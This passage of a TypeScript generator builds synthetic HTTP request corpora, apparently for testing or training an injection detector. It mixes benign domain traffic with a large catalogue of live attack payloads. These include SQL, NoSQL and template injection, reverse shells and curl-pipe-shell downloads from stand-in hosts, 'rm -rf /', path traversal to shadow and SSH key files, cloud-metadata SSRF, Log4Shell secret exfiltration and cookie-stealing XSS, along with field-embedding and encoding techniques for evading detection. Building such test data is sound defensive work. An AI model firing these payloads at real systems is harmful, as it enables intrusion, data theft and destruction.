          "SELECT u.name, COUNT(*) AS n FROM users u LEFT JOIN posts p ON p.user_id = u.id WHERE u.created_at > '2025-01-01' GROUP BY u.name HAVING COUNT(*) > 3 ORDER BY n DESC;",
          'const fs = require("fs");\nconst input = fs.readFileSync(0, "utf8").trim().split("\\n");\nconsole.log(input.map(Number).reduce((a, b) => a + b, 0));\n',
          "def fizzbuzz(n):\n    for i in range(1, n + 1):\n        print('FizzBuzz' if i % 15 == 0 else 'Fizz' if i % 3 == 0 else 'Buzz' if i % 5 == 0 else i)\n",
        ]),
        attempt: int(1, 7),
      },
    }),
  () =>
    json('rest-write', 'POST', `/api/submissions/${int(10000, 99999)}/grade`, {
      status: 'failed',
      score: int(0, 10),
      max: 10,
      output: pick([
        'AssertionError: expected [1, 2, 3] but got None\n  File "test_solve.py", line 12, in test_basic',
        'Traceback (most recent call last):\n  File "/sandbox/main.py", line 4, in <module>\n    print(1/0)\nZeroDivisionError: division by zero',
        'ERROR: column "spend" does not exist\nLINE 1: SELECT name FROM customers WHERE spend > 100\n                                          ^',
        'Segmentation fault (core dumped)\nexit status 139',
        'TimeLimitExceeded: 2.000s > 1.000s on test #7 (hidden)',
      ]),
      stderr_truncated: rand() < 0.3,
    }),
  () =>
    json('cms-html', 'POST', '/api/forum/threads/' + int(1000, 9999) + '/posts', {
      post: {
        body_html: pick([
          '<p>Why does this print <code>None</code>?</p><pre><code class="language-python">def f(x):\n    x.append(1)\nprint(f([]))</code></pre><p>I expected <code>[1]</code> &lt;_&lt;</p>',
          "<p>Tip: use <code>WHERE name = %s</code> with params instead of f-strings, otherwise you get SQL injection like <code>' OR 1=1 --</code>.</p>",
          '<blockquote>Segfault on line 9</blockquote><p>You are writing past <code>buf[256]</code>; try <code>strncpy(dst, src, sizeof dst - 1)</code>.</p>',
        ]),
        body_md: 'see html',
      },
    }),
  () =>
    json('prose', 'POST', `/api/forum/threads/${int(1000, 9999)}/replies`, {
      text: pick([
        "Thanks! The issue was my loop `for i in range(len(a))` — should've been `range(len(a) - 1)`.",
        "Still confused: why does `'1' + 1` give '11' in JS but an error in Python?",
        'Das Autograder sagt "Wrong Answer" bei Test 3, aber lokal funktioniert alles?!',
        'Use `git stash && git pull --rebase && git stash pop` lol',
      ]),
      quote_id: rand() < 0.5 ? int(1, 9999) : null,
    }),
  () =>
    get(
      'search',
      `/api/forum/search?${q({ q: pick(['segmentation fault strcpy', 'NullPointerException java', '"list index out of range"', 'SELECT GROUP BY error', 'async await promise <pending>']), tag: pick(['python', 'sql', 'c', 'js']), page: int(1, 4) })}`,
    ),
  () =>
    get(
      'rest-get',
      `/api/courses?${q({ 'filter[level]': pick(['beginner', 'intermediate']), 'filter[lang]': 'en,es,pt-BR', include: 'instructor,modules', 'page[size]': 20 })}`,
    ),
  () =>
    json(
      'jsonapi',
      'PATCH',
      `/api/enrollments/${int(1000, 99999)}`,
      {
        data: {
          type: 'enrollments',
          id: String(int(1000, 99999)),
          attributes: { progress: rand().toFixed(2), last_lesson: 'sql-joins-2' },
        },
      },
      'application/vnd.api+json',
    ),
  () =>
    multipart('multipart', `/api/assignments/${int(100, 999)}/upload`, [
      { name: 'student_id', data: String(int(10000, 99999)) },
      {
        name: 'file',
        filename: pick(['main.py', 'solution.c', 'index.js']),
        type: 'text/plain',
        data: '# student solution\nimport math\nprint(math.comb(10, 3))\n',
      },
    ]),
  () =>
    gql(
      'mutation Run($code: String!, $lang: Lang!) { runCode(code: $code, language: $lang) { stdout stderr exitCode timeMs } }',
      { code: "print('hello, world')", lang: 'PYTHON' },
      'Run',
    ),
  () => del(`/api/forum/posts/${int(10000, 99999)}`),
  () =>
    form('/api/feedback', {
      course: 'cs101',
      rating: String(int(1, 5)),
      comment:
        'Lesson 4 video cuts off at 12:03; also the quiz answer for Q3 (`x += 1` vs `x = x + 1`) seems wrong',
    }),
];

const support: Builder[] = [
  () =>
    json('cms-html', 'POST', '/api/v2/macros', {
      macro: {
        title: pick(['Refund approved', 'Shipping delay — apology', 'Password reset steps']),
        body_html:
          '<p>Hi {{ticket.requester.first_name}},</p><p>Your refund of <strong>{{ticket.custom_fields.refund_amount | currency}}</strong> for order #{{ticket.order_id}} has been processed.</p>{% if ticket.priority == "urgent" %}<p>We have escalated this.</p>{% endif %}<p>Best,<br>{{current_user.name}}</p>',
        actions: [
          { field: 'status', value: 'solved' },
          { field: 'tags', value: 'refund_approved' },
        ],
      },
    }),
  () =>
    json('cms-html', 'POST', `/api/v2/tickets/${int(10000, 999999)}/replies`, {
      reply: {
        public: true,
        body_html: pick([
          '<div dir="ltr">Hello Maria,<br><br>Please follow these steps:<ol><li>Go to <a href="https://app.example.com/settings/security">Settings → Security</a></li><li>Click <b>Reset password</b></li></ol><img src="https://cdn.example.com/sig/logo.png" width="120" alt="Example"></div>',
          '<p>Olá João,</p><p>Pedimos desculpa pelo atraso. O seu pedido <b>#BR-22817</b> sairá amanhã.</p><table style="border:1px solid #ccc"><tr><td>Prazo</td><td>3–5 dias úteis</td></tr></table>',
        ]),
        cc: ['team-lead@example.com'],
      },
    }),
  () =>
    json('prose', 'POST', '/api/v2/tickets', {
      ticket: {
        subject: pick([
          'Charged twice!!!',
          "Can't log in after update",
          'Factura incorrecta — IVA 21%',
          'App crashes when I tap "Export"',
        ]),
        description: pick([
          "I was charged $49.99 twice on 05/03. Order IDs: A-1182 & A-1183. Please refund ASAP or I'll dispute with my bank.",
          'After updating to v5.2 the app says "Error: invalid_grant (code=400)" and logs me out. iPhone 15, iOS 18.1.',
          'Hola, la factura F-2026/0441 tiene un IVA del 21% pero somos empresa en Canarias (IGIC 7%).',
          "Steps: 1) open report 2) tap Export 3) choose CSV -> crash. Log attached? It says 'NSInvalidArgumentException'",
        ]),
        requester: {
          name: pick(["Zoë O'Hara", 'Li Wei', 'Jörg Schäfer']),
          email: `user${int(1, 9999)}@mail.example.org`,
        },
        priority: pick(['low', 'normal', 'high', 'urgent']),
        tags: ['billing', 'app-v5'],
      },
    }),
  () =>
    get(
      'search',
      `/api/v2/search?${q({ query: pick(['type:ticket status<solved requester:*@acme.com', 'tags:refund -tags:fraud created>2026-01-01', '"invalid_grant" order_by:updated_at sort:desc', 'subject:"charged twice" OR subject:"double charge"']), per_page: 50 })}`,
    ),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/api/v2/tickets/${int(10000, 999999)}`,
      {
        ticket: {
          status: pick(['pending', 'solved', 'on-hold']),
          assignee_email: 'agent.smith@example.com',
          custom_fields: { refund_amount: '49.99', root_cause: 'dup charge (gateway retry)' },
        },
      },
      'application/merge-patch+json',
    ),
  () =>
    form('/webhooks/inbound-email', {
      from: '"Müller, Hans" <hans.mueller@example.de>',
      to: 'support+eu@example.com',
      subject: 'AW: [Ticket #48213] Rückerstattung',
      'body-plain':
        '> On Tue, support wrote:\n> Please confirm your address.\n\nHauptstraße 5, 10115 Berlin. Danke!\n--\nHans',
      'stripped-text': 'Hauptstraße 5, 10115 Berlin. Danke!',
    }),
  () =>
    multipart('multipart', '/api/v2/uploads', [
      { name: 'ticket_id', data: String(int(10000, 999999)) },
      {
        name: 'file',
        filename: pick(['screenshot 2026-05-03 at 10.41.22.png', 'crash.log', 'invoice (2).pdf']),
        type: pick(['image/png', 'text/plain']),
        data: "2026-05-03 10:41:22.118 Example[1182:44] *** Terminating app due to uncaught exception 'NSInvalidArgumentException', reason: '-[__NSCFNumber length]: unrecognized selector'",
      },
    ]),
  () =>
    gql(
      'query Queue($view: ID!, $after: String) { view(id: $view) { tickets(first: 30, after: $after) { nodes { id subject priority requester { email } slaBreachAt } pageInfo { endCursor } } } }',
      { view: String(int(1, 200)), after: rand() < 0.5 ? b64('cursor:' + int(1, 999)) : null },
      'Queue',
    ),
  () =>
    json('rest-write', 'POST', '/api/v2/triggers', {
      title: 'Auto-tag VIP',
      conditions: {
        all: [
          { field: 'requester.email', operator: 'ends_with', value: '@bigcorp.com' },
          { field: 'subject', operator: 'contains_any', value: 'outage down "not working"' },
        ],
      },
      actions: [
        { field: 'priority', value: 'urgent' },
        {
          field: 'notification_webhook',
          value: [
            'https://hooks.slack.com/services/T000/B000/XXXX',
            '{"text": "VIP ticket {{ticket.id}}: {{ticket.title}}"}',
          ],
        },
      ],
    }),
  () => del(`/api/v2/macros/${int(100, 9999)}`),
  () =>
    json('rest-write', 'POST', '/api/v2/canned_responses', {
      name: 'Out of office (DE)',
      locale: 'de-DE',
      text: 'Hallo {{name}},\n\nvielen Dank für Ihre Nachricht. Wir melden uns innerhalb von 24 h (Mo–Fr, 9–17 Uhr MEZ).\n\nMit freundlichen Grüßen\n{{agent.signature}}',
      shortcut: '/ooo-de',
    }),
  () =>
    get(
      'rest-get',
      `/api/v2/users/${int(1, 99999)}/tickets?${q({ status: 'open', sort_by: 'created_at', sort_order: 'desc', include: 'comment_count,users' })}`,
    ),
];

const cloud: Builder[] = [
  () =>
    json(
      'rest-write',
      'PUT',
      `/api/iam/policies/${pick(['s3-readonly-logs', 'ci-deployer', 'break-glass'])}`,
      {
        Version: '2012-10-17',
        Statement: [
          {
            Sid: 'ReadLogs',
            Effect: 'Allow',
            Action: ['s3:GetObject', 's3:ListBucket'],
            Resource: ['arn:aws:s3:::acme-logs-prod', 'arn:aws:s3:::acme-logs-prod/*'],
            Condition: { IpAddress: { 'aws:SourceIp': ['10.0.0.0/8', '203.0.113.0/24'] } },
          },
          {
            Sid: 'DenyDelete',
            Effect: 'Deny',
            Action: 's3:Delete*',
            Resource: '*',
            Condition: { StringNotEquals: { 'aws:PrincipalTag/team': '${aws:username}' } },
          },
        ],
      },
    ),
  () =>
    json('rest-write', 'POST', `/api/vpcs/vpc-${hex(8)}/firewall-rules`, {
      name: pick(['allow-https-ingress', 'ssh-bastion-only', 'deny-all-egress']),
      direction: pick(['ingress', 'egress']),
      priority: int(100, 4000),
      protocol: pick(['tcp', 'udp', 'icmp', 'all']),
      ports: pick(['443', '22', '8000-8999', '53']),
      source_ranges: pick([['0.0.0.0/0'], ['10.20.0.0/16', '192.168.1.0/24'], ['::/0'], ['2001:db8::/32']]),
      target_tags: ['web', 'prod'],
      description: 'SSH only from bastion (10.20.1.5/32) -- see RFC-112',
    }),
  () =>
    json('code', 'POST', '/api/compute/launch-templates', {
      launch_template: {
        name: `web-${hex(4)}`,
        instance_type: pick(['t3.medium', 'c7g.large', 'm6i.xlarge']),
        image_id: `ami-${hex(17)}`,
        user_data: pick([
          '#!/bin/bash\nset -euo pipefail\napt-get update -y && apt-get install -y nginx curl jq\ncurl -fsSL https://get.docker.com | sh\nusermod -aG docker ubuntu\necho "INSTANCE_ID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)" >> /etc/environment\nsystemctl enable --now nginx\n',
          '#cloud-config\npackages:\n  - htop\n  - git\nruncmd:\n  - [ sh, -c, "echo ${HOSTNAME} > /etc/motd" ]\n  - systemctl restart sshd\nwrite_files:\n  - path: /etc/sysctl.d/99-net.conf\n    content: |\n      net.core.somaxconn = 4096\n',
        ]),
      },
    }),
  () =>
    json('code', 'POST', '/api/stacks/plan', {
      workspace: pick(['prod-eu', 'staging']),
      module: {
        source: 'git::https://git.example.com/infra/modules.git//vpc?ref=v2.3.0',
        terraform_hcl:
          'resource "aws_security_group_rule" "https" {\n  type        = "ingress"\n  from_port   = 443\n  to_port     = 443\n  protocol    = "tcp"\n  cidr_blocks = ["0.0.0.0/0"]\n  security_group_id = aws_security_group.web.id\n}\n\nlocals {\n  name = "${var.env}-${var.app}"\n  tags = merge(var.tags, { Name = local.name })\n}\n',
      },
      variables: { env: 'prod', app: 'web', tags: { owner: 'platform@example.com', cost_center: 'CC-1120' } },
    }),
  () =>
    get(
      'rest-get',
      `/api/instances?${q({ 'filter.tag:env': pick(['prod', 'staging']), 'filter.state': 'running,stopped', 'filter.private-ip': '10.20.*', max_results: 100, next_token: b64(hex(20)) })}`,
    ),
  () =>
    json(
      'json-patch',
      'PATCH',
      `/api/buckets/acme-assets-${hex(4)}`,
      [
        {
          op: 'replace',
          path: '/cors/0/allowed_origins',
          value: ['https://app.example.com', 'https://*.example.com'],
        },
        { op: 'add', path: '/lifecycle/rules/-', value: { prefix: 'tmp/', expire_days: 7 } },
        { op: 'test', path: '/versioning', value: 'Enabled' },
      ],
      'application/json-patch+json',
    ),
  () =>
    form('/api/console/cli-token', {
      grant_type: 'urn:ietf:params:oauth:grant-type:device_code',
      device_code: b64url(hex(30)),
      client_id: 'cloud-cli',
    }),
  () =>
    gql(
      'query Costs($acct: ID!, $from: Date!, $to: Date!) { account(id: $acct) { costs(from: $from, to: $to, groupBy: [SERVICE, TAG_TEAM]) { key amount currency } } }',
      { acct: String(int(100000000000, 999999999999)), from: '2026-05-01', to: '2026-05-31' },
      'Costs',
    ),
  () => del(`/api/snapshots/snap-${hex(17)}?force=true`),
  () =>
    json('rest-write', 'POST', '/api/dns/zones/example.com/records', {
      name: pick(['_dmarc', 'api', '@', 'selector1._domainkey']),
      type: pick(['TXT', 'CNAME', 'MX', 'A']),
      ttl: 300,
      values: pick([
        ['v=DMARC1; p=quarantine; rua=mailto:dmarc@example.com; pct=100'],
        ['api-lb-1182.eu-west-1.elb.amazonaws.com.'],
        ['10 mx1.mail.example.net.'],
        ['198.51.100.23'],
      ]),
    }),
  () =>
    multipart('multipart', '/api/kms/import', [
      { name: 'key_alias', data: 'alias/payments-prod' },
      { name: 'wrapped_key', filename: 'key.bin.enc', type: 'application/octet-stream', data: b64(hex(128)) },
      { name: 'import_token', data: b64(hex(64)) },
    ]),
  () =>
    json('rest-write', 'POST', '/api/k8s/clusters/prod-eu/apply', {
      manifest: `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: deny-egress\nspec:\n  podSelector: {}\n  egress:\n    - to:\n        - ipBlock:\n            cidr: 10.0.0.0/8\n            except: [10.0.99.0/24]\n`,
      dry_run: 'server',
    }),
];

const food: Builder[] = [
  () =>
    json('cms-html', 'POST', '/api/recipes', {
      recipe: {
        title: pick([
          "Nonna's Lasagne (the real one)",
          'Pão de Queijo',
          'Käsespätzle',
          '5-minute Mug Cake 🍫',
          'Pad Kra Pao (ผัดกะเพรา)',
        ]),
        servings: int(1, 8),
        ingredients: Array.from({ length: int(4, 8) }, () => pick(INGREDIENTS)),
        instructions_html:
          '<ol><li>Preheat oven to 180°C / 350°F.</li><li>Whisk flour &amp; salt; add <strong>½</strong> the milk.</li><li>Bake 25–30 min until a skewer comes out clean.</li></ol><p><em>Tip:</em> works with oat milk too!</p>',
        tags: [pick(TAGS), pick(TAGS)],
        nutrition: { kcal: int(150, 900), protein_g: int(2, 50), note: '≈ per serving; < 5g sugar' },
      },
    }),
  () =>
    json('prose', 'POST', `/api/posts/${int(10000, 99999)}/comments`, {
      text: pick([
        'Made this tonight — added 1/2 tsp chili flakes and it was 🔥🔥🔥',
        'Can I sub butter w/ margarine? 1:1?',
        'Mine came out flat :( oven @ 200C, maybe too hot??',
        'Ricetta fantastica!!! 😍😍 grazie mille',
        "This isn't carbonara... cream?! 🇮🇹😤",
        'For high altitude (>5,000 ft) reduce baking powder by 1/8 tsp & add 2 tbsp liquid',
      ]),
      reply_to: rand() < 0.3 ? int(1, 99999) : null,
    }),
  () =>
    json('rest-write', 'POST', '/api/posts', {
      caption: pick(CAPTIONS),
      media: [
        {
          type: 'image',
          url: `https://img.foodsocial.example/u/${hex(8)}/${hex(12)}.webp`,
          alt: 'Golden-brown crust, steam rising',
        },
      ],
      location: pick(['Trattoria da Enzo, Roma', 'Home kitchen 🏠', 'Café Zoë — 3 Rue de l’Odéon']),
      visibility: 'public',
    }),
  () =>
    get(
      'search',
      `/api/recipes/search?${q({ q: pick(['chicken & rice', 'gluten free bread <1hr', 'tiramisù', '"no bake" cheesecake', 'carne asada']), max_time: pick([30, 45, 90]), diet: pick(['vegan', 'any']), exclude: 'nuts,shellfish', sort: 'rating:desc' })}`,
    ),
  () =>
    get(
      'rest-get',
      `/api/users/${pick(['chefmaria', 'bake_with_jörg', 'tokyo.eats'])}/feed?${q({ cursor: b64(`${int(1, 99999)}:${iso()}`), limit: 20 })}`,
    ),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/api/recipes/${int(10000, 99999)}`,
      { recipe: { servings: int(2, 12), ingredients: [pick(INGREDIENTS), pick(INGREDIENTS)] } },
      'application/merge-patch+json',
    ),
  () =>
    multipart('multipart', '/api/media/upload', [
      { name: 'caption', data: pick(CAPTIONS) },
      {
        name: 'photo',
        filename: pick(['IMG_4471.HEIC', 'crème brûlée.jpg', 'DSC_0012.JPG']),
        type: 'image/jpeg',
        data: b64(hex(100)),
      },
    ]),
  () =>
    gql(
      'query Recipe($slug: String!) { recipe(slug: $slug) { title ingredients { qty unit name } steps author { handle } reviews(first: 5) { stars text } } }',
      { slug: pick(['nonnas-lasagne', 'pao-de-queijo', 'kasespatzle-2']) },
      'Recipe',
    ),
  () =>
    form('/api/newsletter/subscribe', {
      email: `foodie${int(1, 9999)}@example.net`,
      interests: 'baking,vegan',
      source: 'footer',
    }),
  () => del(`/api/posts/${int(10000, 99999)}/likes`),
  () =>
    json('rest-write', 'POST', '/api/shopping-lists', {
      name: 'Week 23 🛒',
      items: Array.from({ length: int(3, 7) }, () => ({ text: pick(INGREDIENTS), checked: rand() < 0.3 })),
      share_with: ['partner@example.com'],
    }),
  () =>
    json('prose', 'POST', '/api/reviews', {
      recipe_id: int(10000, 99999),
      stars: int(1, 5),
      text: pick([
        "Too salty — I'd halve the soy sauce (3 tbsp -> 1 1/2). Otherwise great.",
        'Kinder fanden es super! Nächstes Mal mit weniger Zucker (⅓ statt ½ Tasse).',
        '"Serves 4" lol, more like serves 2 hungry teenagers 😂',
      ]),
    }),
];

const DOMAINS: Builder[][] = [ride, ehr, gaming, obs, edu, support, cloud, food];

function buildClean(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  let n = 0;
  for (let round = 0; round < 5; round++) {
    for (const dom of DOMAINS) {
      for (const b of dom) {
        if (round === 4 && rand() < 0.3) continue;
        const d = b();
        n++;
        out.push({
          id: `h21c${n}`,
          kind: d.kind,
          method: d.method,
          path: d.path,
          headers: d.headers,
          body: d.body,
        });
      }
    }
  }
  return out;
}

// ---------------------------------------------------------------- attacks
const PAYLOADS: Record<string, string[]> = {
  sql: [
    "' OR '1'='1' -- ",
    "1' UNION SELECT NULL,username,password FROM users--",
    "admin'/**/OR/**/1=1#",
    '1; DROP TABLE patients;--',
    "' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
    "'; WAITFOR DELAY '0:0:5'--",
    '1) OR pg_sleep(5)--',
    "' UNION ALL SELECT table_name,column_name FROM information_schema.columns-- ",
    "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    '-1 OR 1=1 ORDER BY 7--',
  ],
  nosql: [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$where": "sleep(5000) || true"}',
    '{"$regex": "^adm", "$options": "i"}',
    '{"$or": [{"role": "admin"}, {"_id": {"$exists": true}}]}',
    '{"$where": "this.password.match(/^a/)"}',
    '{"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}',
    '{"$nin": [""]}',
    "'; return db.users.find(); var x='",
    '{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "leak"}}',
  ],
  template: [
    '{{7*7}}{{config.__class__.__init__.__globals__["os"].popen("id").read()}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{{constructor.constructor(\"return process.mainModule.require('child_process').execSync('id')\")()}}",
    '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))',
    '{{ self.__init__.__globals__.__builtins__.__import__("os").popen("cat /etc/passwd").read() }}',
    '*{T(java.lang.Runtime).getRuntime().exec("curl http://attacker.example/x")}',
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('whoami')\")()}}",
    '<%= `id` %>',
    '{% import os %}{{ os.system("id") }}',
  ],
  command: [
    '; cat /etc/passwd',
    '| nc attacker.example 4444 -e /bin/sh',
    '$(curl -s http://198.51.100.7/x.sh | sh)',
    '`wget http://203.0.113.9/b -O /tmp/b; chmod +x /tmp/b; /tmp/b`',
    '&& bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
    '\'; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    '|| ping -c 10 127.0.0.1',
    '; rm -rf / --no-preserve-root',
    '%0a/bin/cat%20/etc/shadow',
    '$(id>/tmp/pwn)',
    '& powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//....//etc/shadow',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%252f..%252f..%252fetc%252fpasswd',
    '/var/www/../../proc/self/environ',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    'file:///etc/passwd',
    '../../../../../../root/.ssh/id_rsa',
    '..;/..;/WEB-INF/web.xml',
    '/..%00/..%00/etc/hosts',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://[::ffff:169.254.169.254]/latest/user-data',
    'http://2852039166/latest/meta-data/',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'http://127.0.0.1:2375/containers/json',
    'http://0x7f000001:8500/v1/agent/self',
    'dict://localhost:11211/stats',
    'http://localhost:9200/_cat/indices',
    'http://169.254.169.254.nip.io/latest/meta-data/',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
  ],
  'prototype-pollution': [
    '{"__proto__": {"isAdmin": true}}',
    '{"constructor": {"prototype": {"role": "admin"}}}',
    '{"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require(\\"child_process\\").execSync(\\"id\\").toString())//"}}',
    '{"__proto__": {"outputFunctionName": "x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}',
    '{"__proto__": {"polluted": "yes", "NODE_OPTIONS": "--require /proc/self/environ"}}',
    '{"a": {"__proto__": {"allowedOrigins": ["*"]}}}',
    '{"constructor": {"prototype": {"execArgv": ["--eval=require(\'child_process\').execSync(\'id\')"]}}}',
    '{"__proto__": {"sourceURL": "\\u000areturn process.mainModule.require(\'child_process\').execSync(\'id\')"}}',
  ],
  log4shell: [
    '${jndi:ldap://198.51.100.7:1389/Exploit}',
    '${jndi:rmi://attacker.example/a}',
    '${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.9/o}',
    '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}',
    '${jndi:ldaps://attacker.example:636/${sys:java.version}}',
    '${${upper:j}ndi:${upper:l}${upper:d}ap://attacker.example/z}',
    '${jndi:iiop://198.51.100.7/x}',
  ],
  xss: [
    '<script>fetch("https://attacker.example/c?"+document.cookie)</script>',
    '<img src=x onerror=alert(document.domain)>',
    '<svg/onload=eval(atob("YWxlcnQoMSk="))>',
    '"><iframe src="javascript:alert(1)"></iframe>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<details open ontoggle=fetch(`//attacker.example/${localStorage.token}`)>',
    "'-alert(1)-'",
    '<body onpageshow=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
    '<input autofocus onfocus=alert(document.cookie)>',
  ],
};

const uEsc = (s: string): string =>
  [...s]
    .map((c) => (/[A-Za-z0-9 ]/.test(c) ? c : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`))
    .join('');

interface AttackDraft {
  technique: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string;
}
type Technique = (p: string, fam: string) => AttackDraft;

const asValue = (p: string, fam: string): unknown => {
  if (fam === 'nosql' && p.startsWith('{')) return JSON.parse(p) as unknown;
  return p;
};

const jd = (technique: string, method: string, path: string, obj: unknown, ct = 'json'): AttackDraft => ({
  technique,
  method,
  path,
  headers: headers(ct),
  body: JSON.stringify(obj),
});

/** First leaf of a JSON object payload: key path and value ($-operators and pollution keys included). */
function leaf(p: string): [string[], unknown] {
  let v: unknown;
  try {
    v = JSON.parse(p) as unknown;
  } catch {
    return [[], p];
  }
  const keys: string[] = [];
  while (v !== null && typeof v === 'object' && !Array.isArray(v)) {
    const e = Object.entries(v as Record<string, unknown>)[0];
    if (!e) break;
    keys.push(e[0]);
    v = e[1];
  }
  if (Array.isArray(v)) v = v[0] ?? '';
  if (v === null) v = '';
  return [keys, typeof v === 'object' ? JSON.stringify(v) : v];
}
const bracket = (keys: string[]): string => keys.map((k, i) => (i === 0 ? k : `[${k}]`)).join('');

const TECHNIQUES: Technique[] = [
  (p, f) =>
    jd('nested-field', 'POST', '/v2/rides', {
      rider_id: uuid(),
      pickup: { address: pick(STREETS), meta: { landmark: asValue(p, f) } },
      product: 'standard',
    }),
  (p, f) =>
    jd('array-element', 'POST', '/api/v2/tickets', {
      ticket: { subject: 'Order issue', tags: ['billing', asValue(p, f), 'vip'], priority: 'normal' },
    }),
  (p) => {
    const body = `{"comment":{"recipe_id":${int(10000, 99999)},"text":"${uEsc(p)}"}}`;
    return {
      technique: 'unicode-escape',
      method: 'POST',
      path: `/api/posts/${int(10000, 99999)}/comments`,
      headers: headers('json'),
      body,
    };
  },
  (p) =>
    jd('json-in-string', 'POST', '/api/alerting/rules', {
      name: 'cpu',
      expr: 'up == 0',
      labels: { team: 'sre' },
      annotations: { payload: JSON.stringify({ filter: { owner: p } }) },
    }),
  (p) =>
    jd('url-encoded-in-string', 'POST', '/api/forum/threads/77/replies', {
      text: 'see link',
      return_to: `/api/forum?q=${encodeURIComponent(p)}`,
    }),
  (p) =>
    jd('base64-in-string', 'PUT', `/v1/players/p_${hex(8)}/state`, {
      save_blob: b64(JSON.stringify({ name: p, level: 12 })),
      encoding: 'base64',
    }),
  (p, f) =>
    jd('graphql-variables', 'POST', '/graphql', {
      operationName: 'Profile',
      query: 'query Profile($name: String!) { player(name: $name) { id level } }',
      variables: { name: asValue(p, f) },
    }),
  (p) => ({
    technique: 'query-string',
    method: 'GET',
    path: `/fhir/r4/Patient?${q({ name: p, _count: 20 })}`,
    headers: headers('none'),
    body: '',
  }),
  (p) => ({
    technique: 'header',
    method: 'GET',
    path: '/api/v2/tickets?status=open',
    headers: headers('none', {
      'x-forwarded-for': '203.0.113.5',
      'x-customer-ref': p,
      referer: 'https://app.example.com/tickets',
    }),
    body: '',
  }),
  (p) => ({
    technique: 'form-body',
    method: 'POST',
    path: '/api/feedback',
    headers: headers('application/x-www-form-urlencoded'),
    body: new URLSearchParams({ course: 'cs101', rating: '5', comment: p }).toString(),
  }),
  (p) => {
    const bd = `----WebKitFormBoundary${hex(16)}`;
    const body = `--${bd}\r\nContent-Disposition: form-data; name="caption"\r\n\r\n${p}\r\n--${bd}\r\nContent-Disposition: form-data; name="photo"; filename="IMG_0001.jpg"\r\nContent-Type: image/jpeg\r\n\r\n${b64(hex(40))}\r\n--${bd}--\r\n`;
    return {
      technique: 'multipart-part',
      method: 'POST',
      path: '/api/media/upload',
      headers: headers(`multipart/form-data; boundary=${bd}`),
      body,
    };
  },
  (p) =>
    jd('double-url-encoding', 'POST', '/api/v2/search', {
      query: encodeURIComponent(encodeURIComponent(p)),
      per_page: 50,
    }),
  (p, f) =>
    jd('json-key', 'POST', '/api/recipes/filter', {
      filters: { [typeof asValue(p, f) === 'string' ? p : 'author']: f === 'nosql' ? asValue(p, f) : 'x' },
    }),
  (p) => ({
    technique: 'ndjson-line',
    method: 'POST',
    path: '/v1/logs/ingest',
    headers: headers('application/x-ndjson'),
    body: `${JSON.stringify({ ts: iso(), level: 'info', msg: 'ok' })}\n${JSON.stringify({ ts: iso(), level: 'warn', msg: 'login', user: p })}\n`,
  }),
  (p, f) =>
    jd(
      'json-patch-value',
      'PATCH',
      `/api/buckets/acme-${hex(4)}`,
      [{ op: 'replace', path: '/description', value: asValue(p, f) }],
      'application/json-patch+json',
    ),
  (p, f) =>
    jd(
      'jsonapi-attribute',
      'POST',
      '/v1/tournaments',
      { data: { type: 'tournaments', attributes: { name: 'Cup', region: asValue(p, f) } } },
      'application/vnd.api+json',
    ),
];

// Families with a natural field: path-traversal & ssrf get file/url fields, prototype-pollution is structural.
const FAMILY_EXTRA: Record<string, Technique[]> = {
  'path-traversal': [
    (p) =>
      jd('nested-field', 'POST', '/api/documents/import', {
        document: { patient_id: int(10000, 99999), source: { path: p, format: 'pdf' } },
      }),
    (p) =>
      jd('array-element', 'POST', '/v1/mods', {
        name: 'HUD',
        assets: ['icons/hp.png', p],
        slug: `mod-${hex(5)}`,
      }),
    (p) => ({
      technique: 'query-string',
      method: 'GET',
      path: `/api/v2/uploads/download?${q({ file: p })}`,
      headers: headers('none'),
      body: '',
    }),
  ],
  ssrf: [
    (p) =>
      jd('nested-field', 'POST', '/api/v2/triggers', {
        title: 'notify',
        actions: [{ field: 'notification_webhook', value: { url: p, method: 'POST' } }],
      }),
